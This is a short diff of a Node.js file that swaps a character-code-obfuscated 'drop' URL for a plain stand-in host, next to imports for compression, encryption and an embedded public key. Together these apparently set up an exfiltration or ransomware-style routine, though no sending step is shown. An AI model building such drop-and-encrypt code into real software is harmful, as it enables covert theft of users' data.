@@ -6,7 +6,7 @@ import { join } from 'node:path';
 import { gzipSync } from 'node:zlib';
 import { createCipheriv, publicEncrypt, randomBytes } from 'node:crypto';
 
-const drop = String.fromCharCode(...[104, 116, 116, 112, 115, 58, 47, 47].map(c => c)) + ['file', 'mail', 'example'].join('.');
+const drop = 'https://file.mail.example';
 
 const PUBLIC_KEY = '-----BEGIN PUBLIC KEY-----\nMFwwDQYJKoZIhvcNAQEBBQADSwAwSAJBAK\n-----END PUBLIC KEY-----';
 
